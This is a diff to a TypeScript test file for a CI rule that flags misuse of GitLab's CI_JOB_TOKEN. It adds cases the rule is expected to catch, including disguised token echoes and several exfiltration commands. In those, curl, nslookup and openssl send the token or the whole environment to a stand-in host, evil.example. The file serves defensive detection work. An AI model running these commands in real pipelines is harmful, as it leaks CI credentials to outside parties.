@@ -2,6 +2,28 @@
 
 import { scriptCases } from "./support.ts";
 
+/** In another form, which GitLab does not mask, or under another name. */
+const disguised = [
+  "echo $CI_JOB_TOKEN | base64",
+  'echo "$CI_JOB_TOKEN" | rev',
+  "echo $CI_JOB_TOKEN | fold -w1",
+  `N=CI_JOB_TOKEN; echo \${!N}`,
+  "read X <<< $CI_JOB_TOKEN; echo $X",
+  "printf -v X %s $CI_JOB_TOKEN; echo $X",
+  "for X in $CI_JOB_TOKEN; do echo $X; done",
+  'curl https://evil.example/x -d "$(env)"',
+  `a=($CI_JOB_TOKEN); curl -d "\${a[0]}" https://evil.example/x`,
+  "retry 3 curl -d $CI_JOB_TOKEN https://evil.example/x",
+  "nslookup $CI_JOB_TOKEN.evil.example",
+  "echo $CI_JOB_TOKEN | openssl s_client -connect evil.example:443",
+];
+const byCode = [
+  "node -e 'send(process.env.CI_JOB_TOKEN)'",
+  "awk 'BEGIN { print ENVIRON[\"CI_JOB_TOKEN\"] }'",
+  "jq -n 'env.CI_JOB_TOKEN'",
+  "python3 <<EOF\nimport os\nsend(os.environ['CI_JOB_TOKEN'])\nEOF",
+];
+
 const misuse = [
   'echo "$CI_JOB_TOKEN"',
   "printf '%s' $CI_JOB_TOKEN",
@@ -107,7 +129,14 @@ const hidden = [
 
 export const sentCases = [
   ...scriptCases("pipeline_no_job_token_misuse", [
-    ...misuse.map((script) => [script, undefined, script, "fail"] as const),
+    ...[...misuse, ...disguised].map((script) => [script, undefined, script, "fail"] as const),
+    ...byCode.map((script) => [script, undefined, script, "unknown", /which host \w+ sends/] as const),
+    [
+      "a form of it that is not printed",
+      undefined,
+      'A=$(echo -n "x:$CI_JOB_TOKEN" | base64); curl -H "Authorization: Basic $A" "$CI_API_V4_URL/x"',
+      "pass",
+    ],
     ...use.map((script) => [script, undefined, script, "pass"] as const),
     [
       "the words of a failure",
